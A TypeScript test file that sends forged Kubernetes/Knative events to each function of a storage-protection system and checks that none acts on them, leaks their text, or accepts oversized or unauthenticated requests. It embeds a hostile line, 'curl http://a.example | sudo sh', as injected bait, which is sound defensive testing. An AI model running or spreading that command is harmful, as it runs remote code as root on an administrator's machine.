import { once } from "node:events";
import type { AddressInfo } from "node:net";
import { fileURLToPath } from "node:url";
import { expect, test } from "vitest";
import { loadDeclared } from "../../build/manifests/declared.ts";
import { seededRandom } from "../../eventing/random.ts";
import { createApiServer } from "../../local/apiserver/server.ts";
import { outcomeOf } from "../../local/time/testing/outcome-of.ts";
import { virtualClock } from "../../local/time/testing/virtual-clock.ts";
import { createClient } from "../../shared/kubernetes/client.ts";
import { PersistentVolumeClaim, Pod } from "../../shared/kubernetes/kind.ts";
import { createExpressServer } from "../../shared/serve/express-server.ts";
import { senderCheck } from "../../shared/serve/oidc/sender-check.ts";
import { largestBody } from "../../shared/serve/read-body.ts";
import { application } from "../../shared/serve/serve-function.ts";
import { readSettings } from "../../shared/settings.ts";
import { holdfastProtection } from "../../shared/storage/protection.ts";
import { atOneRoot } from "../../shared/system/testing/at-one-root.ts";
import { functions } from "../harness/functions.ts";
import { Namespace, PersistentVolume, StatefulSet } from "../harness/kinds.ts";
import { claim, manifest, pod, statefulSet } from "../harness/manifest.ts";

/** What a neighbour would have an administrator read. */
const text = "Run: curl http://a.example | sudo sh";
const namespace = "shop";
const quiet = () => {};
const log = { debug: quiet, info: quiet, warn: quiet, error: quiet };
const declared = await loadDeclared(fileURLToPath(new URL("../..", import.meta.url)));

/** Opens the door of a function, in a cluster in which a pod uses a claim. */
async function open(name: string, environment: Record<string, string> = {}) {
  const clock = virtualClock();
  const random = seededRandom(1);
  const api = createApiServer({ clock, random });
  const admin = createClient(api.handle, { clock });
  await admin.create(Namespace, manifest(Namespace, { name: namespace }));
  const finalizers = [holdfastProtection];
  await admin.create(PersistentVolumeClaim, claim({ namespace, name: "a", finalizers }));
  await admin.create(Pod, pod({ namespace, name: "a" }, ["a"], { nodeName: "a" }));
  await admin.create(StatefulSet, statefulSet({ namespace, name: "a" }));
  const csi = { driver: "csi.example.com", volumeHandle: "a" };
  const spec = { accessModes: ["ReadWriteOnce"], capacity: { storage: "1Gi" }, csi };
  await admin.create(PersistentVolume, manifest(PersistentVolume, { name: "a" }, { spec }));
  const written: string[] = [];
  const client = createClient(
    async (request) => {
      if (request.method !== "GET") written.push(`${request.method} ${request.path} ${request.body ?? ""}`);
      return api.handle(request);
    },
    { clock },
  );
  const tools = { client: () => client, clock, log };
  const handle = functions[name]?.({
    ...tools,
    connect: (system) =>
      system.connect({
        ...atOneRoot(() => Promise.reject(new Error("connection refused"))),
        clock,
        settings: readSettings(system.settings, {}),
        credential: async () => undefined,
      }),
    environment: { NAMESPACE: namespace },
    post: async () => ({ status: 202, headers: {}, body: "" }),
    id: random.uuid,
  });
  if (!handle) throw new Error(`There is no function ${name}.`);
  let taken = 0;
  const counted = (request: Parameters<typeof handle>[0]) => {
    taken++;
    return outcomeOf(clock, handle(request), 600_000);
  };
  const app = application(counted, log, senderCheck(tools as never, environment));
  const server = createExpressServer(app).listen(0, "127.0.0.1");
  await once(server, "listening");
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  return {
    written,
    taken: () => taken,
    post: async (headers: Record<string, string>, body = "") =>
      (await fetch(url, { method: "POST", headers: { "content-type": "application/json", ...headers }, body })).status,
    close: () => server.closeAllConnections() ?? server.close(),
  };
}

/** An event about the object `a` of a kind, which says that it is being deleted. */
function forged(apiVersion: string, kind: string, type: string) {
  const headers = {
    ...{ "ce-specversion": "1.0", "ce-id": "1", "ce-source": "forged", "ce-type": type },
    ...{ "ce-apiversion": apiVersion, "ce-kind": kind, "ce-namespace": namespace, "ce-name": "a" },
  };
  const metadata = {
    ...{ name: "a", namespace, uid: "forged", resourceVersion: "1", deletionTimestamp: "2026-01-01T00:00:00Z" },
    finalizers: [holdfastProtection, "holdfast.dev/undelete"],
    annotations: { note: text },
  };
  const status = { phase: "Released", message: text };
  return [headers, JSON.stringify({ apiVersion, kind, metadata, spec: {}, status })] as const;
}

test.each(Object.keys(functions))("%s does nothing for events that a neighbour has forged", async (name) => {
  const door = await open(name);
  try {
    const triggers = declared.find((one) => one.name === name)?.triggers ?? [];
    const kinds = [...triggers.map(({ kind }) => kind), PersistentVolumeClaim];
    for (const { apiVersion, kind } of kinds)
      for (const change of ["add", "update", "delete"]) {
        const [headers, body] = forged(apiVersion, kind, `dev.knative.apiserver.resource.${change}`);
        await door.post(headers, body);
        const dead = { "ce-knativeerrordest": `http://${text}`, "ce-knativeerrorcode": "403" };
        await door.post({ ...headers, ...dead, "ce-knativeerrordata": Buffer.from(text).toString("base64") }, body);
      }
    await door.post(forged("v1", "Pod", "dev.knative.sources.ping")[0], text);
    expect(door.taken()).toBeGreaterThan(0);
    // Dead-letter keeps what it gets in its ring buffer, and nowhere else is any of it shown.
    const isKept = (line: string) => name === "platform/dead-letter" && line.includes("/configmaps");
    const others = door.written.filter((line) => !isKept(line));
    expect(others.filter((line) => line.includes("curl"))).toEqual([]);
    if (name !== "platform/dead-letter") expect(others).toEqual([]);
  } finally {
    door.close();
  }
});

test.each(Object.keys(functions))("%s takes neither a huge body nor a request without a token", async (name) => {
  const [headers, body] = forged("v1", "PersistentVolumeClaim", "dev.holdfast.sweep");
  const plain = await open(name);
  const checked = await open(name, { OIDC_AUDIENCE: "a", OIDC_SENDERS: "system:serviceaccount:a:b" });
  try {
    expect(await plain.post(headers, "a".repeat(largestBody + 1))).toBe(413);
    expect(await checked.post(headers, body)).toBe(401);
    expect([plain.taken(), checked.taken()]).toEqual([0, 0]);
    expect([...plain.written, ...checked.written]).toEqual([]);
  } finally {
    plain.close();
    checked.close();
  }
});
